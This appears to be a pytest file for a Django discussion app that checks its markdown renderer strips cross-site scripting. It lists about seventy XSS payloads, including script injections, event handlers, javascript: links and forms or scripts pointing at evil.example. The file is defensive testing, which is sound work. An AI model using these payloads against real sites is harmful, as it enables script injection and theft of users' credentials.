"""What attackers write: none of it runs, none of it loads, none of it looks like the page."""

import re
from html.parser import HTMLParser

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from tests.world import World
from vaknet.domain.knowledge import actions
from vaknet.kit.markdown import link_names, names_in, to_html

# After the kinds in the XSS cheat sheet of OWASP and the tests of DOMPurify, in our own words.
HARMFUL = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror=a>",
    "<noscript><p title=</noscript><img src=x onerror=alert(1)>></noscript>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<p style='position:fixed;inset:0'>over alles heen</p>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a id=content name=cookie>x</a>",
    "<x-y onclick=alert(1)>x</x-y>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "onmouseover=alert(1) x=")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x"onerror="alert(1)](x)',
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "> <svg/onload=alert(1)>",
    "@<script>alert(1)</script>",
    '@marit"onmouseover="alert(1)',
    '<span class="mention">@marit.hoekstra</span>',
    '<span class="mention" onclick="alert(1)">@marit.hoekstra</span>',
    "[@marit.hoekstra](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]
WORDS_AND_LINKS = "p br em strong a ul ol li blockquote code pre hr h3 h4 h5 h6 span"
TAGS = set(WORDS_AND_LINKS.split())
ATTRIBUTES = {"a": {"href", "rel", "class", "title"}, "ol": {"start"}, "span": {"class"}}
SCHEMES = {"http", "https", "mailto", "tel"}
SCHEME = re.compile(r"\s*([a-z][a-z0-9+.-]*):", re.IGNORECASE)


class Reader(HTMLParser):
    """As a browser reads it: every element with all that it carries."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, set()):
                self.wrong.append(f"{tag} {name}")
            if name == "class" and value != "mention":
                self.wrong.append(f"class {value}")
            scheme = SCHEME.match(value or "") if name == "href" else None
            if scheme and scheme[1].lower() not in SCHEMES:
                self.wrong.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.wrong.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.wrong.append("an instruction")


def shown(text: str) -> str:
    html = to_html(text, names=True)
    return link_names(html, {name: f"/@{name}/" for name in names_in(html)})


@pytest.mark.parametrize("text", HARMFUL)
def test_nothing_harmful_is_left(text: str) -> None:
    assert Reader(shown(text)).wrong == []
    assert Reader(to_html(text)).wrong == []


def test_the_reader_sees_harm() -> None:
    """Or the tests above prove nothing."""
    harm = '<img src=x><a href="javascript:x" onclick=x>x</a><!-- x --><p class="button">x</p>'
    assert Reader(harm).wrong == [
        "img",
        "img src",
        "href javascript:x",
        "a onclick",
        "a comment",
        "p class",
        "class button",
    ]


@given(st.lists(st.sampled_from([*HARMFUL, "@marit.hoekstra", "\n\n", "*", "`", "> ", " "])))
def test_pieces_of_harm_together_are_harmless_too(pieces: list[str]) -> None:
    assert Reader(shown("".join(pieces))).wrong == []


def test_on_the_page_itself_nothing_runs(world: World) -> None:
    """The whole page with all of it has the scripts and handlers of a page with none of it."""

    def parts(post_body: str, reply: str) -> list[int]:
        post = actions.start_conversation(
            world.samira, groups=[world.group], title=f"{post_body[:80]} x", body=post_body
        )
        actions.reply(world.marit, post=post, text=reply)
        client = Client()
        client.force_login(world.noor.account)
        page = client.get(f"/gesprek/{post.pk}/").text
        harm = ("<script", "<img", "<iframe", "<style", "<object", 'href="javascript')
        return [page.lower().count(one) for one in harm]

    everything = "\n\n".join(HARMFUL)
    assert parts(everything, everything) == parts("Niets", "Niets")


def test_the_word_of_a_stranger_never_becomes_a_name() -> None:
    assert names_in(to_html('<span class="mention">@marit</span>', names=False)) == []
    assert link_names("<p>@marit</p>", {"marit": "/@marit/"}) == "<p>@marit</p>"
